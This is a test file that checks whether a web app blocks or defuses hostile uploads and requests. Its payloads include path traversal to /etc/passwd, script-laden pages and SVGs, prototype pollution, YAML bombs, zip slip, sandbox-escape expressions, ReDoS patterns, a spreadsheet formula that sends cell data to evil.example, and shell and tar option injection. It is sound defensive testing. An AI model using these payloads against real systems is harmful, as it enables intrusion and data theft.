import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { missing } from '../../checks/machine/missing.ts';
import { expectThumbnails, honestUse, listed, sendAlbum, setRule } from './testing/honest-use.ts';
import { aliasBomb, pdf, picture, pngSignature, productsJson } from './testing/samples.ts';
import { type Site, startSite } from './testing/start-site.ts';
import { zip } from './testing/zip.ts';

const magick = missing('imagemagick');
const noMagick = magick ? `: ${magick}` : '';

const search = (site: Site, pattern: string): Promise<Response> =>
  site.as('ada', `/products?q=${encodeURIComponent(pattern)}`);

const importProducts = (site: Site, name: string, content: string, user = 'admin'): Promise<Response> =>
  site.upload(user, '/products', 'products', name, content);

const script = '<script>fetch("/products", { method: "post" })</script>';
const page = `<!doctype html>${script}`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`;

describe('the site with Bulwark', () => {
  let site: Site;
  beforeAll(async () => {
    site = await startSite(() => import('./app.ts'));
  });
  afterAll(() => site?.close());

  honestUse(() => site);
  test.skipIf(noMagick)(`makes thumbnails, and passes no option to ImageMagick${noMagick}`, async () => {
    const url = await sendAlbum(site, { name: 'sea.png', content: await picture('png', 300) });
    const before = await site.files();
    await expectThumbnails(site, url);
    for (const size of ['-write', '20x20 -write evil.png', '@/etc/passwd', '20x20;id', '$(id)']) {
      const path = `${url}/thumbnails/sea.png?size=${encodeURIComponent(size)}`;
      expect((await site.as('ada', path)).status).toBe(400);
    }
    expect(await site.files()).toEqual(before);
  });

  describe('refuses, and keeps no file of', () => {
    let before: string[];
    beforeEach(async () => {
      before = await site.files();
    });
    afterEach(async () => expect(await site.files()).toEqual(before));

    test.each([
      ['a page as a photo', 'photo.png', page],
      ['a page with its own extension', 'photo.html', page],
      ['an SVG as a photo', 'photo.png', svg],
      ['an SVG with its own extension', 'photo.svg', svg],
      ['a GIF that is also a script', 'photo.png', 'GIF89a/*\0\0*/=alert(1)//'],
      ['a page behind the signature of a PNG', 'photo.png', Buffer.concat([pngSignature, Buffer.from(page)])],
    ])('%s', async (_what, name, content) => {
      const { status } = await site.upload('ada', '/photo', 'photo', name, content);
      expect(status).toBeGreaterThanOrEqual(413);
      expect(status).toBeLessThanOrEqual(422);
    });

    test.each([
      ['a page called a PDF', 'plan.pdf', page],
      ['a PDF called a page', 'plan.html', pdf],
      ['a zip called a docx', 'plan.docx', zip({ name: 'a.txt', content: 'a' })],
    ])('%s', async (_what, name, content) => {
      expect((await site.upload('ada', '/documents', 'document', name, content)).status).toBe(415);
    });

    test('a document of more than 5 MB', async () => {
      const large = Buffer.concat([pdf, Buffer.alloc(5_000_000)]);
      expect((await site.upload('ada', '/documents', 'document', 'plan.pdf', large)).status).toBe(413);
    });

    test('a document that another site makes the browser send', async () => {
      const body = new FormData();
      body.set('document', new Blob([Buffer.from(pdf)]), 'plan.pdf');
      const headers = { 'sec-fetch-site': 'cross-site', origin: 'https://evil.example' };
      expect((await site.as('ada', '/documents', { method: 'POST', body, headers })).status).toBe(403);
    });

    test('products of a user who may not import them', async () => {
      expect((await importProducts(site, 'list.json', productsJson, 'ada')).status).toBe(403);
    });

    test.each([
      ['an alias bomb', 'list.yaml', aliasBomb],
      ['a function in YAML', 'list.yaml', '- !!js/function "function () {}"'],
      ['__proto__ in YAML', 'list.yaml', '- __proto__: { admin: true }'],
      ['__proto__ in JSON', 'list.json', '[{ "__proto__": { "admin": true } }]'],
      ['__proto__ in CSV', 'list.csv', '__proto__,name\r\nadmin,true'],
      ['a price that is text', 'list.json', productsJson.replace('80', '"cheap"')],
      ['100,000 levels of JSON', 'list.json', '['.repeat(100_000) + ']'.repeat(100_000)],
    ])('%s', async (_what, name, content) => {
      const imported = await (await site.as('ada', '/products')).json();
      const { status } = await importProducts(site, name, content);
      expect([400, 413, 422]).toContain(status);
      expect(await (await site.as('ada', '/products')).json()).toEqual(imported);
      expect({}).not.toHaveProperty('admin');
    });

    test.each([
      ['a path out of the folder', { name: '../../evil.png' }],
      ['a symbolic link', { name: 'link.png', content: '/etc/passwd', link: true }],
      ['a page called a photo', { name: 'page.png', content: page }],
      ['10 MB of nothing', { name: 'zeros.png', content: Buffer.alloc(10_000_000) }],
    ])('a zip with %s', async (_what, entry) => {
      const content = await picture('png');
      const photos = zip({ content, ...entry }, { name: 'sea.png', content });
      const { status } = await site.upload('ada', '/albums', 'photos', 'trip.zip', photos);
      expect([400, 413, 415, 422]).toContain(status);
    });

    test.each([
      '/..%2fpackage.json',
      '/%2e%2e%2fapp.ts',
      '/photos/..%2f..%2f..%2fetc%2fpasswd',
      '/documents/..%2f..%2f..%2f..%2fetc%2fpasswd',
      '/albums/..%2f..%2f..%2fetc',
      '/albums/..%2fuploads/archive',
      '/albums/x/photos/..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd',
      '/albums/x/thumbnails/..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd',
    ])('a path out of the folder: %s', async (path) => {
      const response = await site.as('ada', path);
      expect([400, 404]).toContain(response.status);
      expect(await response.text()).not.toContain('root:');
    });

    test.each([
      "name.constructor.constructor('return process')().exit()",
      "price['__pro' + 'to__']",
      '(() => process.exit())()',
      'process.exit()',
      '"a".repeat(1e9)',
    ])('the rule %s', async (rule) => {
      expect([400, 422]).toContain((await setRule(site, 'admin', rule)).status);
    });

    test.each(['(?=a)', '(a)\\1', '(a{1,900}){900}', '('])('the pattern %s', async (pattern) => {
      expect([400, 422]).toContain((await search(site, pattern)).status);
    });
  });

  describe('makes harmless', () => {
    test('a PDF with a page in it, and a path as its name', async () => {
      const content = Buffer.concat([pdf, Buffer.from(page)]);
      const sent = await site.upload('ada', '/documents', 'document', '../../../plan.pdf', content);
      const { headers } = await site.as('ada', (await sent.json()).url);
      expect(headers.get('content-type')).toBe('application/pdf');
      expect(headers.get('content-disposition')).toBe('attachment; filename="plan.pdf"');
      expect(headers.get('content-security-policy')).toContain('sandbox');
      expect(headers.get('x-content-type-options')).toBe('nosniff');
      expect((await site.files()).filter((name) => !/^\/data\/(uploads|photos|albums)\//.test(name))).toEqual(
        [],
      );
    });

    test('the id of a document in the place of a photo', async () => {
      const sent = await site.upload('ada', '/documents', 'document', 'plan.pdf', pdf);
      const { url } = await sent.json();
      expect((await site.as('grace', url.replace('documents', 'photos'))).status).toBe(404);
    });

    test('a formula in the export', async () => {
      const name = '=HYPERLINK("https://evil.example?"&A1)';
      await importProducts(
        site,
        'list.json',
        JSON.stringify([{ sku: 'A-1', name, category: '', price: -1 }]),
      );
      const csv = await (await site.as('ada', '/products.csv')).text();
      expect(csv.split('\r\n')[1]).toBe(`A-1,"'=HYPERLINK(""https://evil.example?""&A1)",,-1`);
    });

    test('a pattern that would take years', async () => {
      const list = [{ sku: 'A-1', name: `${'a'.repeat(60)}!`, category: '', price: 1 }];
      await importProducts(site, 'list.json', JSON.stringify(list));
      expect(await (await search(site, '^(a+)+$')).json()).toEqual([]);
    });

    test('a photo with a page behind its end, and an option of tar as its name', async () => {
      const name = '--checkpoint-action=exec=touch hacked.png';
      const url = await sendAlbum(site, {
        name,
        content: Buffer.concat([await picture('png'), Buffer.from(page)]),
      });
      expect(await (await site.as('ada', url)).json()).toEqual([name]);
      const shown = await site.as('ada', `${url}/photos/${name}`);
      expect(shown.headers.get('content-type')).toBe('image/png');
      expect(await shown.text()).not.toContain('script');
      expect(await listed(await site.as('ada', `${url}/archive`))).toEqual([name]);
      expect((await site.as('ada', `${url}/archive?name=--to-command=id`)).status).toBe(404);
      expect((await site.files()).filter((file) => file.endsWith('hacked'))).toEqual([]);
    });
  });
});
